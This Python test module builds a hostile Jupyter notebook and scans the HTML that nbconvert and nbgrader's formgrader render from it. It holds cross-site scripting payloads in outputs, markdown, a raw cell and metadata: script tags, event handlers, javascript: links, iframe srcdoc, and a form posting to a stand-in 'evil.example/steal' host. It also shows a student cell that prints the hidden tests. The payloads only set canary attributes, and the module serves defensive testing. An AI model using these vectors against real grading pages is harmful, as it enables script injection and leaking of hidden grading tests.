"""A hostile notebook built in memory, and a scanner for the HTML pages rendered from it.

Every payload, when it runs in a browser, sets ``data-ran-<name>="yes"`` on the page's
``<html>`` element. The attribute name is built by concatenation at run time, so escaped
or quoted payload text can never produce it: finding it in a browser's DOM proves that
script ran.
"""

from __future__ import annotations

import base64
import re
import warnings
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pandas as pd
from nbconvert import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

# A 1x1 PNG.
PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
        "0000000d4944415478da63f8cf80000003010100c9fe92ef0000000049454e44ae426082"
    )
).decode("ascii")
TABLE_CANARY = 424242  # a value in the DataFrame whose table must survive
RAN = re.compile(r'data-ran-([\w-]+)="yes"')


def js(name: str) -> str:
    """Script (no spaces, single quotes only) that marks the page when it runs."""
    return f"document.documentElement.setAttribute('data-ran-'+'{name}','yes')"


def _display(data: dict, metadata: dict | None = None):
    return new_output("display_data", data=data, metadata=metadata or {})


def hostile_outputs() -> list:
    """What a student's code cell can display: active content of every kind, and a table."""
    frame = pd.DataFrame({"pid": [TABLE_CANARY, 7], "evil": [1, 0]})
    html_payload = (
        f"<script>{js('html-script')}</script>"
        f'<img src="x" onerror="{js("html-onerror")}">'
        f'<iframe srcdoc="&lt;script&gt;parent.{js("html-iframe")}&lt;/script&gt;"></iframe>'
        f'<a href="javascript:{js("html-link")}">click</a>'
        f'<svg onload="{js("html-svg")}"><circle r="1"/></svg>'
        "<style>body { display: none }</style>"
        '<form action="https://evil.example/steal"><input name="p"></form>'
        f'<object data="data:text/html,&lt;script&gt;{js("html-object")}&lt;/script&gt;"></object>'
    )
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("svg-output")}">'
        f"<script>{js('svg-script')}</script></svg>"
    )
    return [
        _display({"text/html": html_payload, "text/plain": "<HTML object>"}),
        _display(
            {
                "application/javascript": js("js-output"),
                "text/plain": "<IPython.core.display.Javascript object>",
            }
        ),
        _display({"image/svg+xml": svg, "text/plain": "<IPython.core.display.SVG object>"}),
        _display({"image/svg+xml": svg}),
        _display(
            {
                "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
                "text/plain": "IntSlider(value=0)",
            }
        ),
        _display(
            {
                "text/markdown": f"<script>{js('md-output')}</script> **bold**",
                "text/plain": "<Markdown object>",
            }
        ),
        _display(
            {"image/png": PNG, "text/plain": "<Figure>"},
            {"image/png": {"width": f"1 onload={js('png-width')}"}},
        ),
        new_output(
            "execute_result",
            execution_count=3,
            data={"text/html": frame._repr_html_(), "text/plain": repr(frame)},
        ),
        new_output("stream", name="stdout", text="<script>not markup: printed text</script>\n"),
    ]


def hostile_markdown() -> str:
    """A written answer with raw HTML, script and ``javascript:`` links of every kind."""
    return "\n\n".join(
        [
            "My answer: the **forest** isolates evil processes.",
            f"<script>{js('md-script')}</script>",
            f'An image <img src=x onerror="{js("md-onerror")}"> inline.',
            f'<a href="javascript:{js("md-html-link")}">html link</a>',
            f"[markdown link](javascript:{js('md-link')})",
            f"[double-encoded link](&amp;#x6a;avascript:{js('md-encoded-link')})",
            f'<iframe srcdoc="&lt;script&gt;parent.{js("md-iframe")}&lt;/script&gt;"></iframe>',
            f'<svg onload="{js("md-svg")}"></svg>',
            "A plot I drew: ![my plot](attachment:plot.png)",
        ]
    )


def hostile_notebook() -> nbformat.NotebookNode:
    """A graded-looking notebook whose outputs, answer, raw cell and metadata are hostile."""
    code = new_code_cell("show_everything()", execution_count=3, outputs=hostile_outputs())
    answer = new_markdown_cell(
        hostile_markdown(),
        attachments={
            "plot.png": {"image/png": PNG, "image/svg+xml": f'<svg onload="{js("attachment")}"/>'},
        },
    )
    answer.metadata["nbgrader"] = {
        "grade": True,
        "solution": True,
        "locked": False,
        "grade_id": "written_answer",
        "points": 1,
        "schema_version": 3,
    }
    raw = new_raw_cell(f"<script>{js('raw-cell')}</script>", metadata={"raw_mimetype": "text/html"})
    nb = new_notebook(cells=[code, answer, raw])
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    nb.metadata["title"] = f"</title><script>{js('title')}</script>"
    return nb


# ---- scanning rendered pages ---------------------------------------------------------------

URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "xlink:href",
    "srcdoc",
    "codebase",
    "cite",
}
ACTIVE_TAGS = {
    "iframe",
    "object",
    "embed",
    "form",
    "frame",
    "frameset",
    "applet",
    "base",
    "svg",
    "math",
    "link",
}
RASTER_DATA = re.compile(r"data:image/(png|jpeg|gif|webp);base64,", re.IGNORECASE)


class PageScan(HTMLParser):
    """What in an HTML page could run script or load active content.

    Attributes
    ----------
    scripts : list of dict
        The attributes of every ``<script>`` element, in page order.
    handlers : list of (tag, attribute)
        Every ``on*`` attribute.
    bad_urls : list of (tag, attribute, value)
        URL attributes with a ``javascript:``, ``vbscript:`` or non-raster ``data:`` URL.
    active_tags : list of str
        Frames, objects, forms, inline SVG and MathML, ``<base>``, ``<link>``.
    csp : list of (position, content)
        Content-Security-Policy ``<meta>`` elements, with their position among all tags.
    tags_seen : int
        How many start tags came before (used for ``csp`` positions).
    """

    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.scripts, self.handlers, self.bad_urls, self.active_tags, self.csp = [], [], [], [], []
        self.tables: list[dict] = []
        self.tags_seen = 0
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags_seen += 1
        attrs = [(name.lower(), value or "") for name, value in attrs]
        if tag == "script":
            self.scripts.append(dict(attrs))
        if tag == "table":
            self.tables.append(dict(attrs))
        if tag in ACTIVE_TAGS:
            self.active_tags.append(tag)
        if tag == "meta" and dict(attrs).get("http-equiv", "").lower() == "content-security-policy":
            self.csp.append((self.tags_seen, dict(attrs).get("content", "")))
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name))
            if name in URL_ATTRIBUTES and _bad_url(tag, name, value):
                self.bad_urls.append((tag, name, value[:60]))

    handle_startendtag = handle_starttag


def _bad_url(tag: str, name: str, value: str) -> bool:
    cleaned = re.sub(r"[\x00-\x20]", "", value).lower()
    if cleaned.startswith(("javascript:", "vbscript:")):
        return True
    if cleaned.startswith("data:"):
        return not (tag == "img" and name == "src" and RASTER_DATA.match(cleaned))
    return name == "srcdoc"


def unknown_scripts(scan: PageScan, mathjax_url: str) -> list[dict]:
    """Script elements other than nbconvert's own MathJax loader and MathJax config."""
    return [
        s
        for s in scan.scripts
        if s.get("src") != mathjax_url and s.get("type") != "text/x-mathjax-config"
    ]


# ---- a tiny nbgrader course holding hostile autograded notebooks ---------------------------

ASSIGNMENT = "tiny"
VISIBLE_TEST = 'assert f(1) == 2, "f(1) should be 2"'
HIDDEN_LINES = (
    'assert f(-5) == -4, "f should handle negative numbers"',
    "assert f(10 ** 6) == 10 ** 6 + 1  # hidden_check_large_numbers",
)
# What the course's nbgrader_config.py replaces: nbgrader's own pipelines, appended to a copy
# of the config to show what happens without our settings.
NBGRADER_DEFAULT = """
c.GenerateFeedback.preprocessors = [
    "nbgrader.preprocessors.GetGrades",
    "nbconvert.preprocessors.CSSHTMLHeaderPreprocessor",
]
c.HTMLExporter.preprocessors = []
"""
TEST_CELL = "\n".join(
    [
        '"""f adds one."""',
        VISIBLE_TEST,
        "### BEGIN HIDDEN TESTS",
        *HIDDEN_LINES,
        "### END HIDDEN TESTS",
    ]
)


def _meta(grade_id: str, *, grade=False, solution=False, locked=False, points=None) -> dict:
    meta = {
        "grade": grade,
        "solution": solution,
        "locked": locked,
        "grade_id": grade_id,
        "schema_version": 3,
    }
    if points is not None:
        meta["points"] = points
    return {"nbgrader": meta}


def tiny_source_notebook() -> nbformat.NotebookNode:
    """An assignment of three graded cells: a function, its test (with hidden tests), an essay."""
    return new_notebook(
        cells=[
            new_markdown_cell(
                "# Tiny\nWrite `f`, then say why.", metadata=_meta("intro", locked=True)
            ),
            new_code_cell(
                "def f(x):\n    ### BEGIN SOLUTION\n    return x + 1\n    ### END SOLUTION",
                metadata=_meta("answer_f", solution=True),
            ),
            new_code_cell(
                TEST_CELL, metadata=_meta("f_adds_one", grade=True, locked=True, points=1)
            ),
            new_markdown_cell(
                "YOUR ANSWER HERE", metadata=_meta("why", grade=True, solution=True, points=1)
            ),
        ],
        metadata={
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
        },
    )


def autograded_notebook(prints_hidden_tests: bool = False) -> nbformat.NotebookNode:
    """What autograde leaves: hidden tests restored, a failed hidden test, hostile content.

    With ``prints_hidden_tests``, a last cell printed the test cell's source from the input
    history, as a student's code can.
    """
    nb = tiny_source_notebook()
    nb.metadata.update(hostile_notebook().metadata)
    nb.cells[1].source = "def f(x):\n    return abs(x) + 1\nshow_everything()"
    nb.cells[1].outputs = hostile_outputs()
    nb.cells[2].outputs = [
        new_output(
            "error",
            ename="AssertionError",
            evalue="f should handle negative numbers",
            traceback=[
                "AssertionError  Traceback (most recent call last)",
                f"----> 4 {HIDDEN_LINES[0]}",
                "AssertionError: f should handle negative numbers",
            ],
        )
    ]
    answer = hostile_notebook().cells[1]
    nb.cells[3].source, nb.cells[3].attachments = answer.source, answer.attachments
    if prints_hidden_tests:
        nb.cells.append(
            new_code_cell(
                "print(_ih[-2])",
                outputs=[new_output("stream", name="stdout", text=TEST_CELL + "\n")],
            )
        )
    return nb


def build_course(root, config_text: str) -> None:
    """A course at ``root``: released with nbgrader, two students autograded (ada, eve).

    ada's notebook is hostile; eve's also prints the hidden tests. The gradebook is built
    with nbgrader's API (no kernel runs): every test scored 0, the essay left to grade.
    """
    from nbgrader.api import Gradebook
    from nbgrader.converters import GenerateAssignment

    from beth_course.course import Course, use_this_environment

    use_this_environment()  # nbgrader runs alembic by name
    root = Path(root)
    (root / "source" / ASSIGNMENT).mkdir(parents=True)
    (root / "nbgrader_config.py").write_text(config_text, encoding="utf-8")
    nbformat.write(tiny_source_notebook(), root / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    course = Course(root, ASSIGNMENT, ASSIGNMENT)
    config = course.config()
    converter = GenerateAssignment(coursedir=course.coursedir(config), config=config)
    converter.coursedir.assignment_id = ASSIGNMENT
    converter.force = converter.create_assignment = True
    converter.start()
    for student, prints in (("ada", False), ("eve", True)):
        folder = root / "autograded" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(autograded_notebook(prints), folder / f"{ASSIGNMENT}.ipynb")
        with Gradebook(course.db_url) as gb, warnings.catch_warnings():
            warnings.simplefilter("ignore")  # SQLAlchemy's autoflush notes on nbgrader's API
            gb.update_or_create_student(student)
            for grade in gb.update_or_create_submission(ASSIGNMENT, student).notebooks[0].grades:
                grade.auto_score = 0.0 if grade.name == "f_adds_one" else None
            gb.db.commit()


# ---- rendering as formgrader does ----------------------------------------------------------


def formgrader_exporter(root: Path) -> HTMLExporter:
    """The exporter formgrader builds: the course config plus formgrader's template settings.

    nbgrader's FormgradeExtension loads nbgrader_config.py from the course root and serves
    each submission with ``HTMLExporter(config=self.config)``.
    """
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    from beth_course.course import Course

    config = Course(Path(root), ASSIGNMENT, ASSIGNMENT).config()
    config.merge(
        Config(
            {
                "HTMLExporter": {
                    "template_name": "formgrade",
                    "extra_template_basedirs": [handlers.template_path],
                }
            }
        )
    )
    return HTMLExporter(config=config)


def formgrader_html(exporter: HTMLExporter, notebook) -> str:
    """The page formgrader serves for ``notebook`` (its resources filled with stand-ins)."""
    resources = {
        "assignment_id": ASSIGNMENT,
        "notebook_id": ASSIGNMENT,
        "submission_id": "s",
        "index": 0,
        "total": 1,
        "base_url": "",
        "student": "ada",
        "last_name": None,
        "first_name": None,
        "notebook_path": "/x",
    }
    return exporter.from_notebook_node(notebook, resources=resources)[0]
